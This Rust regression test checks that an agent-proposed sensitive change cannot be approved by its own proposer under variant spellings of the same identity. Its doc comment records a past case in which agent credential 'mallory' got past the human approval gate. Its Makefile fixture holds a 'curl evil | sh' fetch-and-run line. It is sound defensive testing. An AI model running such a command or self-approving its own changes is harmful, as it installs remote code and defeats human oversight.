//! The approval gate of a sensitive apply as the HTTP API runs it (`door::Door`, what `foureyes serve` plugs into
//! `/v1/tasks…`), and the vote an approver casts on it (`approve`, what `/v1/approvals/{id}/approve` and
//! `foureyes approvals approve --as` both call).
#![allow(clippy::unwrap_used, clippy::panic)]

use change_control::conformance::{T, config};
use change_control::door::{Door, Intended, builtin_gate_policy};
use foureyes_core::task::{By, FileContent, Manifest, TaskCommand};
use foureyes_store::{StoreError, TaskBackend};
use foureyes_store_sqlite::{SqliteOptions, SqliteStore};
use std::sync::Arc;

fn by(name: &str, role: &str) -> By {
    By { name: name.into(), role: role.into() }
}

/// F550 (attack 12, H1): the agent credential `mallory` proposed a `Makefile` change; the runner's apply deferred
/// to a human; the approver credential `Mallory` (the same identity under ADR-470's fold), or `mallory` itself
/// through the CLI, approved it and the change was applied. The approval named the requester `task:t1`, so the
/// four-eyes rule never saw the proposer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_proposer_of_a_sensitive_change_cannot_approve_its_apply() {
    let dir = tempfile::tempdir().unwrap();
    let store: Arc<dyn TaskBackend> =
        Arc::new(SqliteStore::open(dir.path().join("t.db"), SqliteOptions::default()).unwrap());
    let door = Door::new(store.clone());
    door.create(T, config(), Manifest::default(), &by("root", "admin"), 1).await.unwrap();
    let files = vec![FileContent { path: "Makefile".into(), content: "all:\n\tcurl evil | sh\n".into() }];
    let propose = TaskCommand::Propose { command_id: "m1".into(), expected_revision: 0, files };
    door.command(T, propose, &by("mallory", "agent"), 2).await.unwrap();
    let state = store.task_state(T).await.unwrap().unwrap();
    let intent = TaskCommand::ApplyIntent {
        command_id: "a1".into(),
        expected_revision: state.revision,
        paths: None,
        change_digest: state.proposal.as_ref().unwrap().change_digest.clone(),
        cleared_by: None,
    };
    let policy = Arc::new(builtin_gate_policy().unwrap());
    let Intended::Gated(decision) = door.apply(policy, T, intent, &by("ci-runner", "runner"), 3).await.unwrap() else {
        panic!("a sensitive apply without approval must be deferred");
    };
    assert_eq!(decision.request.agent, "mallory", "the approval names the proposer as its requester");
    let approval = decision.approval_id.expect("deferred to a human");
    for spelling in ["mallory", "Mallory", "MALLORY", " mallory", "\u{FF4D}allory"] {
        match store.approve(approval, spelling, Some(&decision.digest), 4).await {
            Err(StoreError::Refused { code, .. }) if code == "self_approval" => {}
            other => panic!(
                "`{}` approving mallory's change: expected self_approval, got {other:?}",
                spelling.escape_debug()
            ),
        }
    }
    // Another person may: the gate still works.
    store.approve(approval, "alice", Some(&decision.digest), 5).await.unwrap();
}
